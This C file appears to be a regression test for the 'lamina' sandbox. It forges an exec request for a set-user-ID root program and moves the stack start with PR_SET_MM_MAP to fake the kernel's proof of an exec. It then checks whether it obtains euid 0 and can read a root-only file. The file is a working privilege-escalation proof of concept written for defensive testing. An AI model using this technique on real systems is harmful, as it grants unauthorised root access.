/* A guest that forges an execve request on its channel for a set-user-ID
 * root program (a pipe as the "new channel"), never execs, then asks for
 * that exec's plan on its own channel: the plan (the program's ids, its
 * descriptor) must not come to the old program (found by the fortieth
 * session's review: the process then had the program's euid 0). Prints
 * what it gets; argv[1] the program, argv[2] a file only root may read.
 * Before it asks, it moves its host process's start of stack with a raw
 * prctl(PR_SET_MM, PR_SET_MM_MAP), which needs no capability, so that the
 * kernel's proof of an exec (the start of stack changed) is met without one
 * (found by the forty-first session's review: the plan was given again).
 * With no arguments, it prints its effective uid (the test's set-user-ID
 * program is a copy of it). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <lamina/channel.h>
#include "raw_syscall.h"
#include "forged_request.h"

/* One request on the channel (string items, an optional descriptor attached): its reply's ret. */
static long request(int op, long a1, long a2, const char **items, int n, int attach, int *got)
{
	static char buf[4096];
	struct lamina_request *rq = (struct lamina_request *)buf;
	memset(buf, 0, sizeof buf);
	rq->op = op;
	rq->args[1] = a1;
	rq->args[2] = a2;
	unsigned off = sizeof *rq;
	for (int i = 0; i < n; i++) {
		unsigned len = strlen(items[i]) + 1;
		memcpy(buf + off, &len, 4);
		memcpy(buf + off + 4, items[i], len);
		off += 4 + len;
	}
	rq->size = off - sizeof *rq;
	return forged_request(rq, attach, got);
}

/* /proc/self/stat's fields (1-based, as proc(5) numbers them), as the kernel shows them: the host process's. */
static unsigned long long field[53];
static int read_stat(void)
{
	char b[4096];
	int fd = open("/proc/self/stat", O_RDONLY);
	long n = fd < 0 ? -1 : read(fd, b, sizeof b - 1);
	if (fd >= 0) close(fd);
	if (n <= 0) return 0;
	b[n] = 0;
	char *at = strrchr(b, ')');
	if (!at) return 0;
	at = strchr(at + 2, ' '); /* past field 3, the state */
	int i = 4;
	for (; at && i < 53; i++) field[i] = strtoull(at, &at, 10);
	return i == 53;
}

/* PR_SET_MM_MAP's argument: the process's layout as it is, but for the start of the stack. */
struct mm_map {
	uint64_t start_code, end_code, start_data, end_data, start_brk, brk, start_stack, arg_start, arg_end, env_start,
		env_end, *auxv;
	uint32_t auxv_size, exe_fd;
};

static const char *move_stack(void)
{
	if (!read_stat()) return "no stat";
	unsigned long long before = field[28];
	struct mm_map m = { field[26], field[27], field[45], field[46], field[47], (uint64_t)raw(SYS_brk, 0, 0, 0, 0, 0),
		field[28] - 16, field[48], field[49], field[50], field[51], 0, 0, (uint32_t)-1 };
	long r = raw(SYS_prctl, PR_SET_MM, 14 /* PR_SET_MM_MAP */, (long)&m, sizeof m, 0);
	return r == 0 && read_stat() && field[28] != before ? "moved" : "refused";
}

int main(int argc, char **argv)
{
	if (argc == 1) { /* run as itself, set-user-ID: its ids */
		printf("run as such: euid %d\n", geteuid());
		return 0;
	}
	if (argc < 3 || !raw_syscall_init()) return 1;
	printf("euid before: %d\n", geteuid());
	int p[2];
	if (raw(SYS_pipe2, (long)p, 0, 0, 0, 0) < 0) return 2;
	const char *items[] = {argv[1], "prog", "PATH=/bin"};
	printf("forged exec: %ld\n", request(LAMINA_OP_EXEC, 1, 1, items, 3, p[1], 0));
	printf("start of stack moved without an exec: %s\n", move_stack());
	int program = -1;
	long plan = request(LAMINA_OP_EXEC_PLAN, 0, 0, 0, 0, -1, &program);
	printf("forged plan: %s\n", plan < 0 ? "refused" : "given");
	printf("program's descriptor: %s\n", program >= 0 ? "given" : "none");
	printf("euid after: %d\n", geteuid());
	printf("secret: %s\n", open(argv[2], O_RDONLY) >= 0 ? "read" : "refused");
	return 0;
}
